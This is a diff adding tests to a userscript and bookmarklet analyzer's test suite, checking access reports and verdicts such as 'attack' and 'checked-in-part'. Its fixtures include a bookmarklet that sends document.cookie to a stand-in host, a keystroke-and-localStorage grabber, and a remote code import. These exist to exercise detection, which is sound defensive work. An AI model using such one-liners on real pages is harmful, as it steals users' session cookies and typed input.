@@ -1,5 +1,9 @@
+import type { AnalysisResult } from "@scriptorium/script-analyzer/analysis-result";
 import { analyzeScript } from "@scriptorium/script-analyzer/analyze-script";
+import { accessOf } from "@scriptorium/script-analyzer/capabilities/access";
+import { verdictOf } from "@scriptorium/script-analyzer/rating/verdict";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { readSeeds } from "../../seed/read-seeds.ts";
 import { forgetRates, newcomer, openFixture, type Person } from "../support/fixture.ts";
 import { save } from "../support/save.ts";
 
@@ -46,6 +50,9 @@ const nothing = {
 	contact_count: 0,
 	own_site: false,
 	unknown_hosts: false,
+	code: null,
+	reads: null,
+	checked_in_part: false,
 };
 
 describe("where a script runs", () => {
@@ -160,6 +167,82 @@ test.each<[string, string, object]>([
 	const report = analyzeScript({ code });
 	expect(await reachOf(report, kind === "userscript" ? kind : "bookmarklet")).toMatchObject(expected);
 });
+
+/** Scripts of every kind of access and verdict. */
+const ANSWERED = [
+	"javascript:fetch('https://c.test/' + document.cookie)",
+	"javascript:document.addEventListener('keydown', (event) => f(event.key)); f(localStorage.a, document.title)",
+	"javascript:import('https://cdn.stranger.test/x.js')",
+	userscript("match *://*/*", "require https://a.test/x.js"),
+	userscript(
+		"match https://www.a.test/*",
+		"match *://*.a.test/",
+		"require https://unpkg.com/vue@3.4.21/dist/vue.global.js",
+	),
+	userscript("match https://a.test/*", "include /regular/", "resource lib https://a.test/x.js"),
+	userscript("match https://bücher.test:8080/*", "match https://localhost/*", "match http*://192.168.0.1/x"),
+];
+const BURN = "function burn(run) { return [...'x'.repeat(9000)].length + run; }";
+const inPart = `${BURN}\n${Array.from({ length: 300 }, (_, run) => `burn(${run});`).join("\n")}`;
+
+function userscript(...lines: string[]): string {
+	return ["// ==UserScript==", "// @name A", ...lines.map((line) => `// @${line}`), "// ==/UserScript==", "f()"].join(
+		"\n",
+	);
+}
+
+describe("both answers", () => {
+	const kindOf = (code: string) => (code.includes("==UserScript==") ? "userscript" : "bookmarklet");
+
+	test("are those of the analyzer, for seeds and scripts of every kind", { timeout: 60_000 }, async () => {
+		const seeds = readSeeds().map(({ code }) => code);
+		const seen = new Set<string | null>();
+		for (const code of [...ANSWERED, ...seeds.filter((_, index) => index % 3 === 0)]) {
+			const result = analyzeScript({ code });
+			const reach = await reachOf(result, kindOf(code));
+			const access = accessOf(result, kindOf(code));
+			expect(reach && answersOf(reach, kindOf(code)), code.slice(0, 200)).toEqual(access);
+			seen.add(access?.code ?? null).add(access?.sites ?? null);
+		}
+		expect([...seen].sort()).toEqual(["any-site", "named-sites", "none", "not-pinned", "pinned", "this-site"]);
+	});
+
+	test("tell a script that was not checked in full from one that is worth a look", async () => {
+		const result = analyzeScript({ code: inPart });
+		const medium = {
+			type: "broad-match",
+			severity: "medium",
+			description: "Runs on every site.",
+			line: 1,
+			column: 1,
+			path: [],
+		} as const;
+		const low = { ...medium, severity: "low" } as const;
+		const withMore: readonly (readonly [string, Pick<AnalysisResult, "risk_level" | "vulnerabilities">])[] = [
+			["checked-in-part", result],
+			["checked-in-part", { ...result, vulnerabilities: [...result.vulnerabilities, low] }],
+			["worth-a-look", { ...result, vulnerabilities: [...result.vulnerabilities, medium] }],
+			["worth-a-look", { ...result, vulnerabilities: [medium] }],
+			["attack", { ...result, risk_level: "red" }],
+			["nothing-found", analyzeScript({ code: "f()" })],
+		];
+		for (const [kind, changed] of withMore) {
+			expect(verdictOf(changed).kind).toBe(kind);
+			const reach = await reachOf({ ...result, ...changed }, "bookmarklet");
+			expect(reach?.checked_in_part, kind).toBe(kind === "checked-in-part");
+		}
+	});
+});
+
+/** The access that a list states. */
+function answersOf({ every_site, sites, checked_in_part: _, ...facts }: NonNullable<Reach>, kind: string) {
+	const several = facts.site_count === 1 ? "this-site" : "named-sites";
+	return {
+		...facts,
+		sites: kind === "bookmarklet" ? "this-site" : every_site ? "any-site" : several,
+		site_names: sites,
+	};
+}
 
 describe("rows of lists", () => {
 	let author: Person & { id: string };
